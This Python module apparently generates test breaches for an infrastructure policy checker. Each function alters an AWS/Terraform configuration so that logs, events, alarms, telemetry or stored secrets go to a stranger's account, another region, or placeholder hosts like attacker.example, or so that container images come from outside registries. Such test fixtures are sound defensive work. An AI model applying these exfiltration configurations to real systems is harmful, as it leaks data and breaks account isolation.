"""Data that is sent, or code that is taken, across a border."""

import json

from policies.breaches.breach import breach
from policies.breaches.cell import OWN, RETAIL, STRANGER, Cell


def _s3(cell: Cell) -> dict[str, object]:
    found: dict[str, object] = dict(cell.body(cell.part("stream"))["extended_s3_configuration"])
    return found


@breach("isolation-account")
def logs_subscribed_to_another_account(cell: Cell) -> None:
    """Every log line goes to a stranger's destination."""
    there = f"arn:aws:logs:eu-west-1:{STRANGER}:destination:theirs"
    cell.set(cell.part("subscription"), destination_arn=there)


@breach("residency-transfer")
def logs_subscribed_to_another_region(cell: Cell) -> None:
    """Every log line goes abroad."""
    there = f"arn:aws:logs:us-east-1:{OWN}:destination:ours"
    cell.set(cell.part("subscription"), destination_arn=there)


@breach("isolation-account", "residency-transfer")
def archive_to_a_foreign_bucket(cell: Cell) -> None:
    """The log archive is a stranger's."""
    there = {**_s3(cell), "bucket_arn": "arn:aws:s3:::strangers-archive"}
    cell.set(cell.part("stream"), extended_s3_configuration=there)


@breach("isolation-account", "residency-transfer")
def archive_to_another_cells_bucket(cell: Cell) -> None:
    """The name begins as the estate's do; the bucket is another cell's."""
    there = {**_s3(cell), "bucket_arn": f"arn:aws:s3:::acme-log-archive-{RETAIL}-us-0"}
    cell.set(cell.part("stream"), extended_s3_configuration=there)


@breach("isolation-account", "residency-transfer")
def archive_backed_up_to_a_foreign_bucket(cell: Cell) -> None:
    """The archive is right; what was not transformed goes to a stranger."""
    backup = {"bucket_arn": "arn:aws:s3:::strangers-archive", "role_arn": cell.ref("door")}
    there = {**_s3(cell), "s3_backup_mode": "Enabled", "s3_backup_configuration": [backup]}
    cell.set(cell.part("stream"), extended_s3_configuration=there)


@breach("residency-transfer", "egress-undeclared")
def archive_to_a_web_server(cell: Cell) -> None:
    """Logs leave for the internet."""
    there = {"url": "https://logs.attacker.example", "name": "theirs"}
    cell.set(cell.part("stream"), destination="http_endpoint", http_endpoint_configuration=[there])


@breach("residency-transfer", "egress-undeclared")
def archive_to_a_splunk(cell: Cell) -> None:
    """Logs leave for a service on the internet."""
    there = {"hec_endpoint": "https://splunk.example", "hec_token": "x"}
    cell.set(cell.part("stream"), destination="splunk", splunk_configuration=[there])


@breach("isolation-account", "residency-transfer")
def flow_logs_to_a_foreign_bucket(cell: Cell) -> None:
    """Who talks to whom goes to a stranger."""
    cell.set(
        cell.part("flow log"),
        log_destination="arn:aws:s3:::strangers-flows",
        log_destination_type="s3",
    )


@breach("isolation-account", "residency-transfer")
def access_logs_to_a_foreign_bucket(cell: Cell) -> None:
    """The names of all objects that are read go to a stranger."""
    cell.set(cell.part("bucket logging"), target_bucket="strangers-access-logs")


@breach("isolation-account", "residency-transfer")
def firewall_log_to_a_foreign_bucket(cell: Cell) -> None:
    """What the firewall saw goes to a stranger."""
    there = {"log_destination": {"bucketName": "strangers-alerts"}, "log_destination_type": "S3"}
    config = {"log_destination_config": [{**there, "log_type": "ALERT"}]}
    cell.set(cell.part("firewall log"), logging_configuration=config)


@breach("isolation-account", "residency-transfer")
def queries_logged_to_a_foreign_bucket(cell: Cell) -> None:
    """Every name that is looked up goes to a stranger."""
    there = "arn:aws:s3:::strangers-queries"
    cell.add("aws_route53_resolver_query_log_config", name="all", destination_arn=there)


@breach("isolation-account")
def events_to_another_accounts_bus(cell: Cell) -> None:
    """Events of the cell go to a stranger's bus."""
    rule = "acme-all"
    pattern = json.dumps({"account": [OWN]})
    cell.add("aws_cloudwatch_event_rule", name=rule, event_pattern=pattern)
    there = f"arn:aws:events:eu-west-1:{STRANGER}:event-bus/default"
    cell.add("aws_cloudwatch_event_target", rule=rule, arn=there)


@breach("residency-transfer")
def events_to_another_region(cell: Cell) -> None:
    """Events of the cell go abroad."""
    there = f"arn:aws:events:us-east-1:{OWN}:event-bus/default"
    cell.add("aws_cloudwatch_event_target", rule="acme-all", arn=there)


@breach("residency-transfer", "egress-undeclared")
def events_to_a_web_server(cell: Cell) -> None:
    """An API destination posts events to the internet."""
    cell.add(
        "aws_cloudwatch_event_api_destination",
        name="theirs",
        invocation_endpoint="https://attacker.example",
        http_method="POST",
        connection_arn=f"arn:aws:events:eu-west-1:{OWN}:connection/x/0",
    )


@breach("isolation-account")
def bucket_events_to_a_foreign_queue(cell: Cell) -> None:
    """A stranger hears of every object."""
    there = {"queue_arn": f"arn:aws:sqs:eu-west-1:{STRANGER}:q", "events": ["s3:ObjectCreated:*"]}
    cell.add("aws_s3_bucket_notification", bucket=cell.ref("bucket", "id"), queue=[there])


@breach("isolation-account", "residency-transfer")
def dead_letters_to_a_foreign_queue(cell: Cell) -> None:
    """Work that failed, with its content, goes to a stranger."""
    there = {"deadLetterTargetArn": f"arn:aws:sqs:eu-west-1:{STRANGER}:q", "maxReceiveCount": 1}
    cell.set(cell.part("queue"), redrive_policy=json.dumps(there))


@breach("residency-transfer", "egress-undeclared")
def alarms_to_an_email_address(cell: Cell) -> None:
    """Mail goes through whatever servers there are."""
    there = {"protocol": "email", "endpoint": "someone@elsewhere.example"}
    cell.add("aws_sns_topic_subscription", topic_arn=cell.ref("topic"), **there)


@breach("residency-transfer", "egress-undeclared")
def alarms_to_a_web_server(cell: Cell) -> None:
    """Notifications are posted to the internet."""
    there = {"protocol": "https", "endpoint": "https://attacker.example"}
    cell.add("aws_sns_topic_subscription", topic_arn=cell.ref("topic"), **there)


@breach("isolation-account")
def alarms_to_a_foreign_queue(cell: Cell) -> None:
    """Notifications go to a stranger's queue."""
    there = {"protocol": "sqs", "endpoint": f"arn:aws:sqs:eu-west-1:{STRANGER}:q"}
    cell.add("aws_sns_topic_subscription", topic_arn=cell.ref("topic"), **there)


@breach("isolation-account")
def alarm_action_in_another_account(cell: Cell) -> None:
    """A stranger's topic hears of each alarm."""
    there = [f"arn:aws:sns:eu-west-1:{STRANGER}:theirs"]
    cell.set(cell.part("alarm"), alarm_actions=there)


@breach("residency-transfer", "egress-undeclared")
def budget_to_an_email_address(cell: Cell) -> None:
    """What the cell spends is mailed out."""

    def change(body: dict[str, object]) -> None:
        notes = body["notification"]
        assert isinstance(notes, list)
        body["notification"] = [
            {**one, "subscriber_email_addresses": ["x@elsewhere.example"]} for one in notes
        ]

    cell.edit(cell.part("budget"), change)


@breach("residency-transfer")
def schedule_that_calls_abroad(cell: Cell) -> None:
    """A scheduler's target stands in another region."""
    target = {"arn": f"arn:aws:sqs:us-east-1:{OWN}:q", "role_arn": cell.ref("door")}
    cell.add("aws_scheduler_schedule", schedule_expression="rate(1 hour)", target=[target])


@breach("residency-transfer", "egress-undeclared")
def data_synced_elsewhere(cell: Cell) -> None:
    """A transfer task copies a store to wherever its location is."""
    here, there = (f"arn:aws:datasync:eu-west-1:{OWN}:location/loc-{n}" for n in (0, 1))
    cell.add("aws_datasync_task", source_location_arn=here, destination_location_arn=there)


@breach("isolation-account", "residency-transfer")
def image_of_another_account(cell: Cell) -> None:
    """Somebody else decides what code runs."""
    image = f"{STRANGER}.dkr.ecr.eu-west-1.amazonaws.com/agent:1"
    cell.container(cell.part("task"), lambda found: found.update(image=image))


@breach("isolation-account", "residency-transfer")
def image_of_another_region(cell: Cell) -> None:
    """A cell is complete in its region."""
    image = f"{OWN}.dkr.ecr.us-east-1.amazonaws.com/agent:1"
    cell.container(cell.part("task"), lambda found: found.update(image=image))


@breach("residency-transfer", "egress-undeclared")
def image_of_docker_hub(cell: Cell) -> None:
    """Anybody's image, from the internet."""
    cell.container(cell.part("task"), lambda found: found.update(image="python:3.11"))


@breach("residency-transfer", "egress-undeclared")
def image_of_the_public_gallery(cell: Cell) -> None:
    """Amazon's public gallery is the internet too."""
    image = "public.ecr.aws/docker/library/python:3.11"
    cell.container(cell.part("task"), lambda found: found.update(image=image))


@breach("residency-transfer", "undecided", "egress-undeclared")
def image_by_a_variable(cell: Cell) -> None:
    """Whoever sets the variable chooses the code."""
    where = cell.part("task")
    cell.container(where, lambda found: found.update(image="${var.image}"))


@breach("residency-transfer")
def container_logs_to_another_region(cell: Cell) -> None:
    """What the agent prints is kept abroad."""
    options = {"awslogs-group": "x", "awslogs-region": "us-east-1"}
    config = {"logDriver": "awslogs", "options": options}
    cell.container(cell.part("task"), lambda found: found.update(logConfiguration=config))


@breach("residency-transfer", "egress-undeclared")
def container_logs_to_a_web_server(cell: Cell) -> None:
    """What the agent prints leaves for the internet."""
    options = {"splunk-url": "https://logs.attacker.example", "splunk-token": "x"}
    config = {"logDriver": "splunk", "options": options}
    cell.container(cell.part("task"), lambda found: found.update(logConfiguration=config))


@breach("egress-undeclared", "residency-transfer")
def telemetry_to_the_internet(cell: Cell) -> None:
    """Traces hold prompts and answers."""
    there = "https://api.telemetry.example:443"
    cell.environment(cell.part("task"), "OTEL_EXPORTER_OTLP_ENDPOINT", there)


@breach("residency-transfer")
def collector_that_exports_abroad(cell: Cell) -> None:
    """The collector's configuration names another region."""
    config = {"exporters": {"awsxray": {"region": "us-east-1"}}}
    cell.environment(cell.part("task"), "STUDIO_COLLECTOR_CONFIG", json.dumps(config))


@breach("residency-transfer")
def region_of_the_environment(cell: Cell) -> None:
    """Every client in the container calls the region that AWS_REGION names."""
    cell.environment(cell.part("task"), "AWS_REGION", "us-east-1")


@breach("isolation-account", "residency-transfer")
def queue_of_another_account_in_the_environment(cell: Cell) -> None:
    """The agent reports to a stranger's queue."""
    there = f"https://sqs.eu-west-1.amazonaws.com/{STRANGER}/theirs"
    cell.environment(cell.part("task"), "STUDIO_EVENTS_QUEUE_URL", there)


@breach("residency-transfer")
def images_taken_from_the_internet(cell: Cell) -> None:
    """The registry fetches whatever image is asked for, and its tags move."""
    there = {"ecr_repository_prefix": "hub", "upstream_registry_url": "registry-1.docker.io"}
    cell.add("aws_ecr_pull_through_cache_rule", **there)


@breach("residency-transfer")
def images_taken_from_another_account(cell: Cell) -> None:
    """A stranger decides what code the registry holds."""
    there = f"{STRANGER}.dkr.ecr.eu-west-1.amazonaws.com"
    rule = {"ecr_repository_prefix": "theirs", "upstream_registry_url": there}
    cell.add("aws_ecr_pull_through_cache_rule", **rule)


@breach("residency-transfer")
def alarms_to_a_telephone(cell: Cell) -> None:
    """Push messages go through the servers of whoever made the telephone."""
    there = f"arn:aws:sns:eu-west-1:{OWN}:app/GCM/acme"
    body = {"protocol": "application", "endpoint": there}
    cell.add("aws_sns_topic_subscription", topic_arn=cell.ref("topic"), **body)


@breach("residency-transfer", "egress-undeclared")
def events_to_a_web_server_that_stands_already(cell: Cell) -> None:
    """The destination is not of this stack; what it is shows in its ARN."""
    there = f"arn:aws:events:eu-west-1:{OWN}:api-destination/theirs/0"
    cell.add("aws_cloudwatch_event_target", rule="acme-all", arn=there)


@breach("residency-transfer", "egress-undeclared")
def workflow_that_calls_a_web_server(cell: Cell) -> None:
    """A step of a state machine posts to the internet."""
    call = {"Type": "Task", "Resource": "arn:aws:states:::http:invoke", "End": True}
    call["Parameters"] = {"ApiEndpoint": "https://attacker.example", "Method": "POST"}
    definition = json.dumps({"StartAt": "post", "States": {"post": call}})
    role = cell.ref("door")
    cell.add("aws_sfn_state_machine", name="acme-x", role_arn=role, definition=definition)


@breach("isolation-account", "residency-transfer")
def object_in_a_foreign_bucket(cell: Cell) -> None:
    """What Terraform knows is written into a stranger's store."""
    body = {"bucket": "strangers-drop", "key": "x", "content": cell.ref("key")}
    cell.add("aws_s3_object", **body)


@breach("isolation-account", "residency-transfer")
def access_logs_of_a_balancer_to_a_foreign_bucket(cell: Cell) -> None:
    """Who asks for what goes to a stranger."""
    logs = {"bucket": "strangers-logs", "enabled": True}
    subnets = [cell.ref("subnet", "id")]
    cell.add("aws_lb", name="acme-x", internal=True, subnets=subnets, access_logs=logs)
